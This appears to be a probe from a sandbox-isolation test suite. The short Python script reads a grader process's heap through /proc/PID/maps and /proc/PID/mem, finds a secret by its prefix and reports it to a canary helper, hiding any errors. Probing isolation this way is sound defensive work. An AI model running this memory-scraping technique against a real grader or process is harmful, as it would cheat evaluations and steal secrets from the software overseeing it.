"""Read the grader's memory through /proc/PID/mem.

base: right
reaches: memory
"""
from canary import GRADER, SECRET_LENGTH, SECRET_PREFIX, tell
from engine_base import Value

try:
    with open(f"/proc/{GRADER}/maps") as maps, open(f"/proc/{GRADER}/mem", "rb", 0) as memory:
        for line in maps:
            if "rw" in line and "heap" in line:
                first, last = (int(end, 16) for end in line.split()[0].split("-"))
                memory.seek(first)
                content = memory.read(last - first)
                if (at := content.find(SECRET_PREFIX)) >= 0:
                    tell(content[at : at + SECRET_LENGTH].decode())
except Exception:
    pass
